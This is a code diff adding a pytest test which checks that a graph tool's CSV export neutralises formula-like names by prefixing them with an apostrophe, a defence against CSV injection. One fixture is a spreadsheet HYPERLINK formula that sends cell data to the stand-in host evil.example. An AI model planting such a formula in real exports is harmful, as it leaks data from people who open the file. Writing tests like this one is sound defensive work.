@@ -588,6 +588,29 @@ def test_csv_and_json_exports_parse(small: nx.MultiDiGraph, tmp_path: Path) -> N
         network.export_network(small, "dot", io.BytesIO())
 
 
+def test_csv_export_writes_no_formula(small: nx.MultiDiGraph, tmp_path: Path) -> None:
+    """A name that begins like a formula is written with an apostrophe in front, so that a
+    spreadsheet opening the download shows it and runs nothing (CWE-1236)."""
+    graph = small.copy()
+    names = {
+        ALPHA: '=HYPERLINK("https://evil.example/?x="&A1;"Klick")',
+        GAMMA: "@SUM(1+1)",
+        DELTA: "+49 30 1234",
+        EPSILON: "-2+3",
+    }
+    for node, name in names.items():
+        graph.nodes[node]["label_de"] = name
+    network.export_network(graph, "csv", tmp_path / "net.csv")
+    with (tmp_path / "net-nodes.csv").open(encoding="utf-8", newline="") as fh:
+        nodes = {r["id"]: r for r in csv.DictReader(fh)}
+    for node, name in names.items():
+        assert nodes[node]["label_de"] == "'" + name
+        assert nodes[node]["label"] == "'" + name  # the label of the export's language
+    others = set(nodes) - set(names)
+    assert others and all(nodes[n]["label_de"] == small.nodes[n]["label_de"] for n in others)
+    assert nodes[ALPHA]["label_en"] == small.nodes[ALPHA]["label_en"]
+
+
 # ---- (c) the CLI ---------------------------------------------------------------------------
 
 
